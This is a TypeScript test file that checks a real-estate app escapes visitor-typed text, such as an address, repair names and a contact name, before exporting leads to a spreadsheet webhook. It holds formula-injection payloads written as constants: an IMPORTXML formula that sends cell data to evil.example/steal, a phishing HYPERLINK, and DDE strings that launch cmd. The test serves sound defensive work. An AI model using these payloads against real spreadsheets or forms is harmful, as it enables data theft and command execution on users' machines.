// Issue 25, finding 7: formula injection into a user's spreadsheet. An anonymous visitor of a
// personal page controls the address, the repairs' names and the contact of the lead they leave;
// the wholesaler then exports that lead to their spreadsheet. Every text cell must reach the
// webhook as text (a leading apostrophe), never as a formula the spreadsheet would run.
import { randomUUID } from 'node:crypto';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, beforeEach, expect, it } from 'vitest';
import { startWebhookFake, type WebhookFake } from '#tests/fakes/webhook-fake.ts';
import { sendJson as send } from '#tests/support/send-json.ts';
import { createTestContext } from '#tests/support/test-app.ts';
import { describeEachDatabase } from '#tests/support/test-database.ts';
import { signUpTestUser } from '#tests/support/test-users.ts';
import { createApp } from '../app';
import type { AppContext } from '../app-context';
import { leads } from '../db/schema';

const IMPORT_XML = '=IMPORTXML("https://evil.example/steal?c="&A1,"//a")';
const HYPERLINK = '=HYPERLINK("https://evil.example/login","Open your offer")';
const DDE = "@SUM(1+1)*cmd|' /C calc'!A0";

describeEachDatabase(
  'a personal-page visitor’s text reaches the spreadsheet as text (issue 25, finding 7)',
  (database) => {
    let sheet: WebhookFake;
    let context: AppContext;
    let app: ReturnType<typeof createApp>;
    beforeAll(async () => {
      sheet = await startWebhookFake();
      // The test allowance (ALLOW_PRIVATE_WEBHOOK_URLS): the loopback fake stands in for a public host.
      context = createTestContext(database(), { TRUST_PROXY: '1', ALLOW_PRIVATE_WEBHOOK_URLS: '1' });
      app = createApp(context);
    });
    afterAll(async () => {
      await sheet.close();
      context.changeFeed.close();
    });
    beforeEach(() => sheet.reset());

    it('escapes the address, repairs and contact a visitor typed when the wholesaler exports the lead', async () => {
      const wholesaler = await signUpTestUser(app);
      const handle = `lee-${randomUUID().slice(0, 8)}`;
      const profile = await send(app, 'PUT', '/api/profile', wholesaler.headers, {
        handle,
        displayName: 'Lee Homes',
        company: '',
        phone: '',
        replyToEmail: '',
        postalAddress: '',
        notifyOnLeads: false,
      });
      expect(profile.status).toBe(200);
      const connected = await send(app, 'PUT', '/api/integrations/sheets/settings', wholesaler.headers, {
        webhookUrl: sheet.url,
      });
      expect(connected.status).toBe(200);

      // The visitor, anonymous, on /c/{handle}: a calculation and an answer of their own making.
      const offered = await send(
        app,
        'POST',
        `/api/public/wholesalers/${handle}/offers`,
        {},
        {
          address: IMPORT_XML,
          marketValue: 200000,
          repairs: [
            {
              name: HYPERLINK,
              cost: 5000,
              isSelected: true,
              description: '',
              minCost: 0,
              maxCost: 10000,
              customAmount: true,
            },
          ],
        },
      );
      expect(offered.status).toBe(201);
      const { token } = (await offered.json()) as { token: string };
      const answered = await send(
        app,
        'POST',
        `/api/public/offers/${token}/responses`,
        {},
        {
          kind: 'counter',
          desiredPrice: 150000,
          contact: { name: `${DDE} Lee`, email: 'visitor@example.net', phone: '512-555-0100' },
        },
      );
      expect(answered.status).toBe(201);
      const [lead] = await database().db.select().from(leads).where(eq(leads.workspaceId, wholesaler.user.id));
      expect(lead).toMatchObject({ address: IMPORT_XML, name: `${DDE} Lee` });

      // The wholesaler exports it, the contact taken from the lead as the visitor gave it.
      const exported = await send(app, 'POST', '/api/integrations/sheets/export', wholesaler.headers, {
        source: { kind: 'lead', leadId: lead!.id },
        contact: {
          name: lead!.name,
          email: lead!.email,
          phone: lead!.phone,
          city: '+1+cmd|calc',
          state: 'TX',
          zipCode: '78701',
        },
      });
      expect(exported.status).toBe(200);
      expect(sheet.requests).toHaveLength(1);
      expect(sheet.requests[0]?.body).toMatchObject({
        firstName: `'${DDE.split(' ')[0]}`,
        address: `'${IMPORT_XML}`,
        repairDetails: `'${HYPERLINK}: $5,000`,
        city: "'+1+cmd|calc",
        email: 'visitor@example.net',
        // Figures stay numbers; only text is escaped.
        marketValue: 200000,
        totalRepairs: 5000,
      });
      // No text cell of the row starts a formula.
      for (const [column, value] of Object.entries(sheet.requests[0]!.body as Record<string, unknown>)) {
        if (typeof value === 'string') expect(value, column).not.toMatch(/^[=+\-@\t\r]/);
      }
    });
  },
);
